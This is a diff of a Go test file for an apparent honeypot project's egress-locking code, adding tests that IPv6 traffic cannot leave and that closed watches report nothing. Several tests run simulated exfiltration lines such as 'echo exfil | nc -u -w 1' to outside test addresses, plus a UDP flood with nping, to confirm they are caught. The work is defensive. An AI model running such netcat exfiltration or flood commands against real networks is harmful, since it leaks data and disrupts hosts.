@@ -4,6 +4,7 @@ import (
 	"encoding/binary"
 	"net"
 	"net/netip"
+	"os/exec"
 	"slices"
 	"strings"
 	"testing"
@@ -11,6 +12,7 @@ import (
 
 	"golang.org/x/sys/unix"
 
+	"github.com/decnet/decnet/fleet/internal/egress"
 	"github.com/decnet/decnet/internal/enginetest"
 )
 
@@ -55,7 +57,6 @@ func TestW17_AnswersLeaveAndNothingElse(t *testing.T) {
 	packets = capture(t, lan)
 	var seen recorder
 	watch := lock(t, &seen)
-	defer watch.Close()
 	for _, try := range tries {
 		inside(t, try.command)
 		waitFor(t, "event of "+try.command, func() bool { return len(seen.of(try.protocol, try.addr, try.port)) > 0 })
@@ -119,13 +120,65 @@ func TestW17_AnswersLeaveAndNothingElse(t *testing.T) {
 	watch.Close()
 	packets = capture(t, lan)
 	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 53")
-	again := lock(t, &seen)
-	defer again.Close()
+	lock(t, &seen)
 	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 54")
 	waitFor(t, "event of the second lock", func() bool { return len(seen.of("udp", outside4, "54")) == 1 })
 	greeting(t, attackerNS, addr4+":"+served)
 	if out := strings.Join(packets(), "\n"); strings.Contains(out, outside4) || !strings.Contains(out, "."+served+" > "+attacker4) {
 		t.Errorf("after the first lock:\n%s", out)
+	}
+}
+
+// TestOfADeckyWithoutIPv6NothingOfThatLeaves gives a decky that is locked as one without IPv6
+// some nevertheless, and tries to reach out by it and to be found.
+func TestOfADeckyWithoutIPv6NothingOfThatLeaves(t *testing.T) {
+	lan := newDecky(t)
+	serve(t, deckyNS, served)
+	var seen recorder
+	lockAs(t, &seen, egress.Options{Decky: "web", IPv4Only: true})
+	packets := capture(t, lan)
+	inside(t, "busybox ping -c 1 -W 1 "+attacker6)
+	waitFor(t, "event of a ping", func() bool { return len(seen.of("icmpv6", attacker6, "")) > 0 })
+	lan.Attack(t, "ip", "-6", "neigh", "flush", "dev", "att0")
+	lan.Attack(t, "busybox", "ping", "-c", "1", "-W", "1", addr6)
+	if got := greeting(t, attackerNS, addr4+":"+served); got != "hello" {
+		t.Errorf("by IPv4 it says %q", got)
+	}
+	for _, l := range packets() {
+		if strings.HasPrefix(l, "IP6 ") {
+			t.Errorf("this left: %s", l)
+		}
+	}
+}
+
+// TestClosedWatchesAreSilent closes one of two watches of a reporter, and then the reporter.
+func TestClosedWatchesAreSilent(t *testing.T) {
+	newDecky(t)
+	var seen recorder
+	r, err := egress.NewReporter(&seen, time.Now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer r.Close()
+	var mine, theirs *egress.Watch
+	within(t, deckyNS, func() { mine, err = r.Lock(egress.Options{Decky: "web"}) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	within(t, attackerNS, func() { theirs, err = r.Lock(egress.Options{Decky: "other"}) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	theirs.Close()
+	theirs.Close() // which does nothing
+	within(t, attackerNS, func() { _ = exec.Command("sh", "-c", "echo exfil | nc -u -w 1 "+addr4+" 9").Run() })
+	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 9")
+	waitFor(t, "event of the watch that is open", func() bool { return len(seen.of("udp", outside4, "9")) == 1 })
+	r.Close()
+	mine.Close() // which does nothing either
+	inside(t, "echo exfil | nc -u -w 1 "+outside4+" 10")
+	if all := seen.All(); len(all) != 1 {
+		t.Errorf("%d events: %+v", len(all), all)
 	}
 }
 
@@ -136,8 +189,7 @@ func TestExitsAreOpenAndNothingElse(t *testing.T) {
 	serve(t, attackerNS, "9090")
 	serve(t, attackerNS, "9091")
 	var seen recorder
-	watch := lock(t, &seen, "tcp:"+attacker4+":9090", "tcp:["+attacker6+"]:9091", "dns:"+attacker4)
-	defer watch.Close()
+	lock(t, &seen, "tcp:"+attacker4+":9090", "tcp:["+attacker6+"]:9091", "dns:"+attacker4)
 
 	resolver, err := listenUDP(t, attackerNS, attacker4+":53")
 	if err != nil {
@@ -187,8 +239,7 @@ func TestICMPErrorsGoToPeersAlone(t *testing.T) {
 	lan := newDecky(t)
 	serve(t, deckyNS, served)
 	var seen recorder
-	watch := lock(t, &seen)
-	defer watch.Close()
+	lock(t, &seen)
 	packets := capture(t, lan)
 
 	var peer net.Conn
@@ -267,8 +318,7 @@ func TestNeighbourDiscoveryStaysOnTheLink(t *testing.T) {
 func TestEventsAreLimited(t *testing.T) {
 	newDecky(t)
 	var seen recorder
-	watch := lock(t, &seen)
-	defer watch.Close()
+	lock(t, &seen)
 	began := time.Now()
 	inside(t, "nping --send-ip --udp -N -c 1000 --rate 2000 -p 9 "+outside4)
 	waitFor(t, "event after the flood", func() bool {
